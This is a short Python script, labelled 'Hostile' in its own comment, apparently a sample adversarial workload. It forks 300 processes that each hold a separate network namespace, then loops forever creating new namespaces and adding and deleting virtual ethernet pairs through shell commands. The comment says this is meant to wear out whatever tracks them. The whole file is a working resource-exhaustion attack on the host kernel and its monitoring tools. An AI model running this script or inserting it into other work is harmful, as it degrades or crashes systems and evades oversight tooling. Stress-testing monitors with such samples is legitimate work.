#!/usr/bin/env python3
# Hostile: lives in hundreds of networks at once and changes one of them for ever, to wear out who follows them.
import ctypes
import os
import subprocess
import time

libc = ctypes.CDLL(None)
CLONE_NEWNET = 0x40000000

for _ in range(300):
    if os.fork() == 0:
        libc.unshare(CLONE_NEWNET)
        time.sleep(1000)
while True:
    libc.unshare(CLONE_NEWNET)
    for _ in range(50):
        subprocess.run("ip link add one type veth peer name other; ip link del one", shell=True)
